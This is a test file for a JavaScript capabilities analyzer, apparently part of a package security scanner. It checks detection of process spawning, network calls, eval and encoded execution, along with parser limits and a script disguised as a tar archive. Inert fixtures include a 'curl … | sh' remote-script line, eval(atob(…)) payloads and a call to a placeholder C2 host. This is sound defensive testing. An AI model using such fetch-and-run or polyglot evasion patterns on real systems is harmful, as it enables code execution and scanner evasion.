import { describe, expect, it } from 'vitest';
import { memoryNode } from '../../artifact/memory-node.js';
import { factsOfKind } from '../../core/facts.js';
import { createJsCapabilitiesAnalyzer, jsCapabilitiesAnalyzer } from './analyzer.js';

const bytes = (text: string) => new TextEncoder().encode(text);

async function analyze(text: string, name = 'index.js', options = {}) {
  const analyzer =
    Object.keys(options).length > 0 ? createJsCapabilitiesAnalyzer(options) : jsCapabilitiesAnalyzer;
  const node = memoryNode(bytes(text), { name });
  expect(analyzer.accepts(node)).toBe(true);
  return analyzer.analyze(node, { limits: {} as never });
}

describe('when a CommonJS file spawns a process through an alias', () => {
  it('reports process.spawn with its line, column and snippet', async () => {
    const result = await analyze("const cp = require('node:child_process');\n\n  cp.execSync('id');\n");
    const facts = factsOfKind(result.facts, 'js.capability');
    const spawn = facts.find((fact) => fact.capability === 'process.spawn');
    expect(spawn).toMatchObject({ line: 3, column: 3, detail: 'child_process.execSync: id' });
    expect(spawn?.snippet).toBe("cp.execSync('id')");
    expect(result.gaps).toEqual([]);
    expect(factsOfKind(result.facts, 'js.file')[0]).toMatchObject({ parsed: 'full', lines: 4 });
  });
});

describe('when an ES module imports a network client and the file is TypeScript with JSX', () => {
  it('parses the dialect and reports the call', async () => {
    const source =
      "import { request } from 'https';\nconst x: number = 1;\nexport const C = () => <div>{x}</div>;\nrequest('https://example.invalid');\n";
    const result = await analyze(source, 'view.tsx');
    const facts = factsOfKind(result.facts, 'js.capability');
    expect(facts.map((fact) => [fact.capability, fact.line])).toContainEqual(['network.outbound', 4]);
    expect(result.gaps).toEqual([]);
  });
});

describe('when the file does not parse', () => {
  it('records an E_JS_SYNTAX gap and still yields facts from the fallback scan', async () => {
    const result = await analyze(
      "eval(atob('ZXZpbA=='));\nfoo(( ;\nconst u = 'curl https://x.invalid/a.sh | sh';\n",
    );
    expect(result.gaps.map((gap) => gap.code)).toEqual(['E_JS_SYNTAX']);
    const facts = factsOfKind(result.facts, 'js.capability');
    expect(facts.every((fact) => fact.fallback === true)).toBe(true);
    expect(facts.map((fact) => fact.capability)).toEqual(
      expect.arrayContaining(['code.eval', 'code.decode-then-execute', 'process.shell-command']),
    );
    expect(factsOfKind(result.facts, 'js.file')[0]?.parsed).toBe('fallback');
  });
});

describe('when the file is over the parse limit', () => {
  it('skips the parse, says so in a gap and scans strings', async () => {
    const source = `const a = '${'x'.repeat(200)}';\nrequire('child_process').execSync('id');\n`;
    const result = await analyze(source, 'big.js', { maxParseBytes: 100 });
    expect(result.gaps[0]).toMatchObject({ code: 'E_ARTIFACT_FILE_TOO_LARGE', stage: 'limit' });
    expect(factsOfKind(result.facts, 'js.file')[0]?.parsed).toBe('skipped');
    expect(factsOfKind(result.facts, 'js.capability').map((fact) => fact.capability)).toContain(
      'process.spawn',
    );
  });
});

describe('when a file repeats one capability past the cap', () => {
  it('keeps the cap and records the drop as a gap', async () => {
    const source = Array.from({ length: 30 }, (_, i) => `eval(x${i});`).join('\n');
    const result = await analyze(source, 'many.js', { limits: { maxFactsPerCapability: 10 } });
    expect(
      factsOfKind(result.facts, 'js.capability').filter((fact) => fact.capability === 'code.eval'),
    ).toHaveLength(10);
    expect(result.gaps[0]).toMatchObject({ code: 'E_ANALYZER_FACT_LIMIT', details: { dropped: 20 } });
  });
});

describe('when the bytes are not valid UTF-8 or nest absurdly deep', () => {
  it('returns a result, never a crash', async () => {
    const bad = new Uint8Array([0x65, 0x76, 0x61, 0x6c, 0x28, 0xff, 0xfe, 0x29]);
    const node = memoryNode(bad, { name: 'bad.js', type: 'javascript' });
    await expect(jsCapabilitiesAnalyzer.analyze(node, { limits: {} as never })).resolves.toBeDefined();
    // Each of these crashes oxc-parser natively (SIGSEGV) when handed to it.
    for (const deep of [
      `${'['.repeat(20000)}${']'.repeat(20000)}`,
      `${'a?b:'.repeat(50000)}c`,
      `${'a='.repeat(50000)}1`,
      `${'if(a)'.repeat(50000)}b`,
    ]) {
      // `eval(x);` makes the file interesting enough to parse, so the nesting guard is what decides.
      const result = await analyze(`eval(x);\n${deep}`, 'deep.js');
      expect(factsOfKind(result.facts, 'js.file')[0]?.parsed).toBe('fallback');
      expect(result.gaps[0]?.code).toBe('E_JS_SYNTAX');
    }
  });
});

describe('when a script names packages', () => {
  it('reports them as one npm.module-refs fact, whether the file is parsed, skimmed or too large', async () => {
    const source = "const pad = require('left-pad');\nimport x from '@scope/pkg/sub';\nrequire('./local');\n";
    // `eval` makes the first file need its tree; the second has nothing that does.
    for (const text of [`eval(x);\n${source}`, source]) {
      const result = await analyze(text, 'index.js');
      expect(factsOfKind(result.facts, 'npm.module-refs')).toEqual([
        { kind: 'npm.module-refs', packages: ['@scope/pkg', 'left-pad'] },
      ]);
    }
    const oversized = await analyze(source, 'big.js', { maxParseBytes: 10 });
    expect(factsOfKind(oversized.facts, 'js.file')[0]?.parsed).toBe('skipped');
    expect(factsOfKind(oversized.facts, 'npm.module-refs')[0]?.packages).toEqual(['@scope/pkg', 'left-pad']);
    const none = await analyze("require('./a'); require('node:fs');\n", 'plain.js');
    expect(factsOfKind(none.facts, 'npm.module-refs')).toEqual([{ kind: 'npm.module-refs', packages: [] }]);
  });
});

describe('when a declaration file declares constants without values', () => {
  it('parses it as a declaration file: no syntax errors, no coverage gap', async () => {
    // `Buffer` makes the file need its tree; `export const x: T;` is only valid in a .d.ts.
    const source = 'export declare const a: number;\nexport const b: Buffer;\nexport function f(): void;\n';
    const declarations = await analyze(source, 'types.d.ts');
    expect(factsOfKind(declarations.facts, 'js.file')[0]).toMatchObject({ parsed: 'full', syntaxErrors: 0 });
    expect(declarations.gaps).toEqual([]);
    // The same text as a plain .ts file is an error oxc recovers from.
    const plain = await analyze(source, 'types.ts');
    expect(plain.gaps.map((gap) => gap.code)).toEqual(['E_JS_SYNTAX']);
  });
});

describe('when a script is also a tar archive (a polyglot)', () => {
  it('is still analysed as the script Node would run', async () => {
    // `ustar` at offset 257 and a checksum that adds up make the bytes a tar header to the type
    // sniffer; for JavaScript both sit in a comment. Inert: the host is under .invalid.
    const first = "eval(atob('Y29uc29sZS5sb2coImluZXJ0Iik='));//";
    const block = Buffer.from(`${first}${' '.repeat(257 - first.length)}ustar${' '.repeat(512 - 262)}`);
    let sum = 0;
    for (const byte of block) sum += byte; // the checksum field counts as spaces, which it still is
    block.write(`${sum.toString(8).padStart(7, '0')} `, 148);
    const source = `${block.toString()}\nrequire('https').get('https://c2.invalid/x');\n`;
    const node = memoryNode(bytes(source), { name: 'index.js' });
    expect(node.type).toBe('tar');
    expect(jsCapabilitiesAnalyzer.accepts(node)).toBe(true);
    const result = await jsCapabilitiesAnalyzer.analyze(node, { limits: {} as never });
    const capabilities = factsOfKind(result.facts, 'js.capability').map((fact) => fact.capability);
    expect(capabilities).toEqual(expect.arrayContaining(['code.eval', 'network.outbound']));
    // The same bytes under a name no runtime executes are left to the tar unpacker.
    expect(jsCapabilitiesAnalyzer.accepts(memoryNode(bytes(source), { name: 'data.bin' }))).toBe(false);
  });
});
